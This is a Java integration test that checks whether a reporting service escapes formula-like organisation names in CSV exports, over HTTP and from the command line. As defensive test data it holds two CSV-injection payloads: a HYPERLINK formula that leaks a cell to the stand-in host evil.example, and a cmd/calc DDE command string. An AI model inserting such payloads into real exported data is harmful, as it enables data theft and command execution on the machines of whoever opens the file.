package org.datatrail.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

import org.datatrail.ingest.SeedLoader;
import org.datatrail.support.DataTrailTest;
import org.datatrail.support.Testers;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.web.reactive.server.WebTestClient;

import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;

/**
 * Organisations named like spreadsheet formulas ({@code src/test/resources/facts/hostile}) come out of the report CSV
 * escaped, over HTTP and on the command line: a spreadsheet opening the file shows the name, and runs nothing.
 */
@DataTrailTest(writes = true)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ReportCsvInjectionIntegrationTests {

    static final String HOSTILE = "src/test/resources/facts/hostile";
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click me\")";
    static final String PLUS = "+1+cmd|' /C calc'!A0";

    @LocalServerPort
    int port;

    @Autowired
    SeedLoader seed;

    @BeforeAll
    void recordTheHostileNames() {
        seed.load(HOSTILE);
    }

    @Test
    void whoFedAPartyBrokerHubsAndEvidenceCoverageEscapeFormulasOverHttp() {
        assertEscaped(http("/reports/who-fed-a-party?party=labour-party&format=csv"), "supplier");
        assertEscaped(http("/reports/broker-hubs?format=csv"), "organisation");
        assertEscaped(http("/reports/evidence-coverage?findings={f}&format=csv", "single source"), "fact");
    }

    @Test
    void theSameOnTheCommandLine(@TempDir Path out) throws Exception {
        // the command line needs the database to itself: a harness database with the seed and the hostile names
        try (var external = org.datatrail.support.TestDatabase.start()) {
            String uri = "--spring.neo4j.uri=" + external.neo4j().boltURI();
            SeedLoader loader = new SeedLoader(new org.datatrail.ingest.FactIngest(external.driver()));
            loader.load("seed");
            loader.load(HOSTILE);
            for (var report : List.of(List.of("who-fed-a-party", "supplier"), List.of("broker-hubs", "organisation"),
                    List.of("evidence-coverage", "fact"))) {
                Path file = out.resolve(report.getFirst() + ".csv");
                assertThat(org.datatrail.CommandLineAccess.run("report", "run", report.getFirst(), "--format", "csv", "--out", file.toString(),
                        uri)).isZero();
                assertEscaped(Files.readString(file), report.get(1));
            }
        }
    }

    private String http(String uri, Object... values) {
        return WebTestClient.bindToServer().baseUrl("http://localhost:" + port).responseTimeout(Duration.ofSeconds(60))
            .defaultHeader("Authorization", "Bearer " + Testers.ANALYST_TOKEN).build()
            .get().uri(uri, values).exchange().expectStatus().isOk()
            .expectBody(String.class).returnResult().getResponseBody();
    }

    /** Both hostile names are in {@code column}, each behind a ', and no cell anywhere starts a formula. */
    private static void assertEscaped(String csv, String column) {
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click me\"\")\"").endsWith("\r\n");
        List<List<String>> rows = new CsvMapper().readerForListOf(String.class).with(CsvReadFeature.WRAP_AS_ARRAY)
            .<List<String>>readValues(csv).readAll();
        int index = rows.getFirst().indexOf(column);
        assertThat(rows.stream().skip(1).map(r -> r.get(index))).contains("'" + HYPERLINK, "'" + PLUS);
        assertThat(rows.stream().flatMap(List::stream)).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
    }
}
